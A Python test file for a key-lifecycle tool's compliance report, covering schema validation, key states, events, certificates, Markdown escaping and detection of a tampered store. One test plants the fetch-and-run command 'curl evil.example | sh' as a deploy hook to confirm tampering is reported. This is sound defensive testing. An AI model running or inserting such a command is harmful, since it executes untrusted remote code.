"""The report model, its JSON contract and its Markdown: built from the 50-ring store."""

from __future__ import annotations

import datetime as dt
import json

import jsonschema
import pytest

from keylife.audit import ChainReport
from keylife.lifecycle import Ring
from keylife.policy import default_policy
from keylife.report import (
    AuditState,
    Report,
    build_report,
    json_schema,
    render_json,
    render_markdown,
    report_to_dict,
)
from keylife.report.events import upcoming_events
from keylife.specs import parse_spec
from tests.rings import fresh_ring

from .store50 import HOSTILE, NOW, RINGS

DAY = dt.timedelta(days=1)


def test_json_follows_the_published_schema(report50: Report) -> None:
    document = json.loads(render_json(report50))
    jsonschema.Draft202012Validator.check_schema(json_schema())
    jsonschema.validate(document, json_schema())
    assert document["summary"]["rings"] == RINGS == len(document["inventory"])
    broken = dict(document, summary={**document["summary"], "rings": -1})
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(broken, json_schema())


def test_inventory_has_dates_age_spec_strength_state(report50: Report) -> None:
    states = {v.state for r in report50.rings for v in r.versions}
    assert {
        "active",
        "pre-active",
        "suspended",
        "deactivated",
        "destroyed",
        "compromised",
    } <= states
    orders = next(r for r in report50.rings if r.name == "orders-00")
    v1 = orders.versions[0]
    assert (v1.spec, v1.strength, v1.age_days, v1.primary) == ("aes-256", 256, 200, True)
    assert v1.created == NOW - 200 * DAY


def test_as_of_2031_flags_what_falls_below_128_bits(report50: Report) -> None:
    flagged = {
        (r.name, v.number) for r in report50.rings for v in r.versions if v.compliant_as_of is False
    }
    assert flagged == {(f"legacy-rsa-{i}", 1) for i in range(3)}
    assert all(v.compliant for r in report50.rings for v in r.versions)
    assert report50.policy["min_strength_as_of"] == 128


def test_exceptions_list_overrides_and_compromised_keys(report50: Report) -> None:
    kinds = {(e.ring, e.kind) for e in report50.exceptions}
    assert {(f"leaked-{i}", "compromised") for i in range(3)} <= kinds
    assert ("contract-archive", "policy-exception") in kinds
    leaked = next(e for e in report50.exceptions if e.ring == "leaked-0")
    assert leaked.detail.startswith("key-compromise") and HOSTILE in leaked.detail


def test_upcoming_events_come_from_the_planner_in_date_order(report50: Report) -> None:
    events = [(e.ring, e.kind, e.version) for e in report50.events]
    assert ("staged-0", "activate", 1) in events and ("staged-3", "activate", 1) in events
    assert ("web-tls", "deactivate", 1) in events
    dues = [e.due for e in report50.events]
    assert dues == sorted(dues) and all(d <= NOW + 90 * DAY for d in dues)


def test_stepping_through_time_finds_events_a_single_plan_does_not() -> None:
    """The rotation (lead time before day 20) and the deactivation (day 20): the planner at
    ``now`` sees neither as due; stepping through the window finds both, and the successor
    once."""
    now = dt.datetime(2030, 1, 1, tzinfo=dt.UTC)
    ring, _ = fresh_ring("r", created=now - 300 * DAY, deactivation=now + 20 * DAY)
    events, nxt = upcoming_events(ring, default_policy(), now, 90 * DAY)
    assert [(e.kind, e.version) for e in events] == [("rotate", 1), ("deactivate", 1)]
    assert nxt == now + 6 * DAY  # the lead time of 14 days before deactivation
    assert upcoming_events(ring, default_policy(), now, 5 * DAY)[0] == []


def test_certificates_show_domains_issuer_serial_not_after(report50: Report) -> None:
    (cert,) = report50.certificates
    assert cert.domains == ("www.example.com", "api.example.com")
    assert cert.issuer == "CN=Test CA \\<1\\>" and cert.serial == "1234abcd"  # RFC 4514
    assert cert.not_after == NOW - 200 * DAY + 240 * DAY
    assert next(r for r in report50.rings if r.name == "web-tls").kind == "certificate"


def test_audit_state_and_failed_runs(report50: Report) -> None:
    assert report50.audit_ok and report50.audit_records == report50.audit_head_seq
    (failure,) = report50.failures
    assert (failure.action, failure.ring) == ("rotate", "orders-03")
    assert failure.outcome.startswith("failure: store unavailable")


def test_markdown_escapes_values_from_the_store(report50: Report) -> None:
    text = render_markdown(report50)
    assert "<script>" not in text and "\\<script\\>" in text
    (line,) = [x for x in text.splitlines() if x.startswith("| leaked-0 | 1 | compromised")]
    assert line.count(" | ") == 5  # 6 cells: the " | " in the message is escaped, no cell added


def test_build_report_is_pure() -> None:
    now = dt.datetime(2030, 1, 1, tzinfo=dt.UTC)
    ring, _ = fresh_ring("a", "rsa-2048", "signing", created=now, deactivation=now + 90 * DAY)
    audit = AuditState(ChainReport(True, 0), (0, "0" * 64), [])
    one = build_report([ring], default_policy("128-bit"), now, audit=audit)
    two = build_report([ring], default_policy("128-bit"), now, audit=audit)
    assert report_to_dict(one) == report_to_dict(two)
    (v,) = one.rings[0].versions
    assert not v.compliant and "128" in v.problems[0]
    empty = build_report(
        [Ring("b", parse_spec("aes-256"), "data-encryption", now)],
        default_policy(),
        now,
        audit=audit,
    )
    jsonschema.validate(report_to_dict(empty), json_schema())


def test_report_shows_the_log_against_the_rings_and_the_last_checkpoint(tmp_path) -> None:
    import sqlite3
    from contextlib import closing

    import keylife
    from keylife.checkpoint import make_checkpoint
    from keylife.report import collect_report, render_html

    db, key = str(tmp_path / "k.db"), tmp_path / "mk"
    with keylife.init(db, master_key_file=key) as m:
        m.create_ring("web", "aes-256", "data-encryption")
        make_checkpoint(m)
    with closing(sqlite3.connect(db)) as con, con:
        (doc,) = con.execute("SELECT doc FROM rings WHERE name='web'").fetchone()
        edited = json.loads(doc)
        edited["attributes"] = {"deploy_hook": "curl evil.example | sh"}
        con.execute("UPDATE rings SET doc=? WHERE name='web'", (json.dumps(edited),))
    with keylife.open(db, master_key_file=key) as m:
        report = collect_report(m)
    (finding,) = report.state
    assert finding.ring == "web" and report.counts()["state_findings"] == 1
    assert report.last_checkpoint is not None
    assert report.last_checkpoint.ring == "keylife-audit-checkpoint"
    document = report_to_dict(report)
    jsonschema.validate(document, json_schema())
    assert document["audit"]["state"][0]["ring"] == "web"
    assert "is not what record" in render_html(report)
    assert "Last checkpoint" in render_markdown(report)
